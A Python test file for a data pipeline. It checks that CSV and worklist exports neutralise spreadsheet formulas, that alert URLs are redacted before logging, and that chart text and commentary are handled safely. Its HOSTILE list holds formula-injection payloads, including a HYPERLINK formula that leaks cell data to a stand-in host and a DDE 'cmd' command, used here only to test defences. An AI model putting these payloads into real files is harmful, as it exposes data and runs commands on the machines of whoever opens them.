"""What the project writes for people to open is safe to open (issue 11): no CSV cell runs as a
formula, no worklist overwrites another team's, chart labels are text, the commentary is read
whatever Windows editor saved it, and no alert secret reaches a log."""

import base64
import csv
import logging
from datetime import datetime
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from pipelines.csv_safety import safe_cell, safe_frame

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def assert_no_live_formula(cells):
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a plain number may start like a formula


def test_safe_cell_follows_the_owasp_rule():
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value  # neutralised, and still readable
    for number in ("-1.50", "-3", "+2", "-1e5", "0.25"):
        assert safe_cell(number) == number  # a plain number cannot be a formula
    for value in ("South East", "", "N/A", "'quoted", "a=b"):
        assert safe_cell(value) == value
    assert safe_cell(-1.5) == -1.5


# --- worklists ----------------------------------------------------------------------------------


@pytest.fixture
def worklist_db(tmp_path):
    from pipelines.quality.worklists import ensure_worklist_table

    con = duckdb.connect(str(tmp_path / "warehouse.duckdb"))
    ensure_worklist_table(con)
    teams = [
        "South East",
        "South-East",
        "south east",
        *HOSTILE,
        "-5",
        "???",
        "!!!",
        "History",
        "'q'",
    ]
    now = datetime(2014, 8, 31, 2, 0)
    for i, team in enumerate(teams):
        con.execute(
            "INSERT INTO quality.worklist_records VALUES "
            "('ssd_cin_episodes', 'e', 'ssd_cin_episodes', ?, ?, ?, ?, 'warning', ?, ?, ?, 'r')",
            [f"=1+{i}", f"@P{i}", team, f"-problem {i}", i + 2, now, now],
        )
    yield con, teams
    con.close()


def test_worklist_csvs_neutralise_formulas(worklist_db, tmp_path):
    from pipelines.quality.worklists import write_worklists

    con, teams = worklist_db
    folder, counts = write_worklists(con, tmp_path / "restricted", "2014-08-31_run00001")
    files = sorted(folder.glob("*.csv"))
    assert len(files) == len(teams) and set(counts) == set(teams)
    seen = set()
    for path in files:
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        for row in rows:
            assert_no_live_formula(row)
        [team] = {row[0] for row in rows[1:]}
        seen.add(team)
        assert rows[1][2].startswith("'=1+") and rows[1][3].startswith("'@P")
    # every team's list, readable (a carriage return inside a cell read as a line break), none lost
    assert seen == {safe_cell(t).replace("\r", "\n") for t in teams}


def test_worklist_file_names_never_collide(worklist_db, tmp_path):
    from pipelines.quality.worklists import file_stems, write_worklists

    con, teams = worklist_db
    folder, _ = write_worklists(con, tmp_path / "restricted", "2014-08-31_run00001")
    assert len(list(folder.glob("*.xlsx"))) == len(teams)
    stems = file_stems(["South East", "South-East", "North"])
    assert stems["North"] == "north"
    assert stems["South East"] != stems["South-East"]
    assert all(s.startswith("south_east_") for t, s in stems.items() if t != "North")
    # the same teams get the same names on every run
    assert file_stems(["South-East", "South East", "North"]) == stems


# --- indicators.csv -------------------------------------------------------------------------------


def test_indicators_csv_keeps_numbers_and_neutralises_text(tmp_path):
    from pipelines.pack.indicators_csv import write_indicators_csv

    rows = pd.DataFrame(
        {
            "indicator_code": ["change_in_cla", "=cmd"],
            "name": ["-Change in children looked after", "@SUM(A1:A9)"],
            "value": [-1.5, 12.0],
            "numerator": [-3, 12],
            "denominator": [None, None],
            "rate_per_10k": [-0.25, None],
            "target_text": ["+5%", None],
            "rag": ["Red", "Green"],
            "direction": ["-", "Up"],
            "previous_1y": [-2.0, 10.0],
            "previous_2y": [None, None],
            "unit": ["count", "count"],
            "target_value": [5.0, None],
            "target_low": [None, None],
            "target_high": [None, None],
            "is_illustrative_target": [True, None],
            "small_numbers": [False, False],
        }
    )
    records = rows.astype(object).where(rows.notna(), None).to_dict("records")
    spc = {"=cmd": {"spc_variation": "=Common cause", "spc_assurance": "@Hit and miss"}}
    path = write_indicators_csv(records, "2014-08", tmp_path, spc)
    with open(path, newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    for row in table:
        assert_no_live_formula(row)
    header, first, second = table
    record = dict(zip(header, first, strict=True))
    assert record["value"] == "-2" and record["numerator"] == "-3"  # still numbers
    assert record["rate_per_10k"] == "-0.25" and record["previous_1y"] == "-2"
    assert record["name"] == "'-Change in children looked after"
    assert record["target"] == "'+5%" and record["direction"] == "'-"
    other = dict(zip(header, second, strict=True))
    assert other["code"] == "'=cmd"
    assert (other["spc_variation"], other["spc_assurance"]) == ("'=Common cause", "'@Hit and miss")
    assert (record["target_is_illustrative"], other["target_is_illustrative"]) == ("true", "")


# --- charts and commentary ---------------------------------------------------------------------


def svg_text(data_uri: str) -> str:
    return base64.b64decode(data_uri.split(",", 1)[1]).decode("utf-8")


def test_chart_labels_are_plain_text():
    from pipelines.pack import charts

    label = r"$\foo$ North West"
    svg = svg_text(charts.cleansing_chart([label, "Cost $5 and $6"], [50.0, 100.0], [False, True]))
    assert label in svg and "Cost $5 and $6" in svg
    svg = svg_text(charts.check_trend_chart(["Jul-14", "Aug-14"], {r"$x^2$ check": [1.0, 2.0]}))
    assert r"$x^2$ check" in svg


def test_commentary_saved_as_windows_1252_is_read(tmp_path):
    from pipelines.pack.commentary import load_commentary

    text = "## contacts\nCost £5 – “quoted” in the café.\n"
    (tmp_path / "2014-08.md").write_bytes(text.encode("cp1252"))
    assert "£5 – “quoted” in the café" in load_commentary(tmp_path, "2014-08").html_for("contacts")


@pytest.mark.parametrize(
    "data, why",
    [
        ("## contacts\nhello\n".encode("utf-16"), "UTF-16"),
        (b"## contacts\nbad \x81 byte\n", "byte 0x81 at offset 16 is neither UTF-8"),
        ("## contacts\nJosé\n".encode() + "René\n".encode("cp1252"), "mixes UTF-8"),
    ],
)
def test_unreadable_commentary_is_refused_with_the_file_named(tmp_path, data, why):
    from pipelines.pack.commentary import CommentaryError, load_commentary

    (tmp_path / "2014-08.md").write_bytes(data)
    with pytest.raises(CommentaryError) as caught:
        load_commentary(tmp_path, "2014-08")
    message = str(caught.value)
    assert message.startswith(f"{tmp_path / '2014-08.md'}: cannot be read")
    assert why in message and "save it as UTF-8" in message


# --- alerts and dbt's target folder ---------------------------------------------------------------


SECRETS = ["XXXXSECRETTOKEN", "hunter2", "s3cr3t-token"]


def test_alert_urls_never_reach_the_log_with_their_secrets(caplog):
    from pipelines.alerts.send import send

    urls = [
        "https://hooks.example.org/services/T000/B000/XXXXSECRETTOKEN",
        "mailtos://user:hunter2@smtp.example.org:notaport",
        "msteams://s3cr3t-token/def",
    ]
    with caplog.at_level(logging.DEBUG):
        assert send("title", "body", urls=urls) is False
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "is not a URL apprise can use" in logged  # the team is told, without the URL
    for secret in SECRETS:
        assert secret not in logged


def test_redaction_keeps_scheme_and_host_only():
    from pipelines.alerts.redact import redact

    assert redact("Unparseable URL https://hooks.example.org/a/XXXXSECRETTOKEN?x=1") == (
        "Unparseable URL https://hooks.example.org/***"
    )
    assert redact("mailtos://user:hunter2@smtp.example.org") == "mailtos://***@smtp.example.org"
    assert redact("msteams://s3cr3t-token/def") == "msteams://***/***"


def test_only_the_last_few_dbt_target_folders_are_kept(tmp_path, monkeypatch):
    import os

    from pipelines.assets.dbt import KEEP_DBT_TARGETS, prune_dbt_targets

    monkeypatch.setenv("DBT_TARGET_PATH", str(tmp_path))
    made = []
    for i in range(6):
        folder = tmp_path / f"dbt_models-{i:07x}-abc{i:04d}"
        folder.mkdir()
        (folder / "manifest.json").write_text("{}")
        os.utime(folder, (1_000_000 + i, 1_000_000 + i))
        made.append(folder)
    (tmp_path / "manifest.json").write_text("{}")  # dbt's own artefacts stay
    (tmp_path / "compiled").mkdir()
    removed = prune_dbt_targets(KEEP_DBT_TARGETS)
    assert sorted(removed) == made[: 6 - KEEP_DBT_TARGETS]
    left = sorted(p.name for p in Path(tmp_path).iterdir())
    assert left == ["compiled", *(p.name for p in made[-KEEP_DBT_TARGETS:]), "manifest.json"]


def test_safe_frame_leaves_the_frame_it_was_given():
    frame = pd.DataFrame({"team": ["=x"], "n": [-1]})
    safe = safe_frame(frame)
    assert frame["team"][0] == "=x" and safe["team"][0] == "'=x" and safe["n"][0] == -1
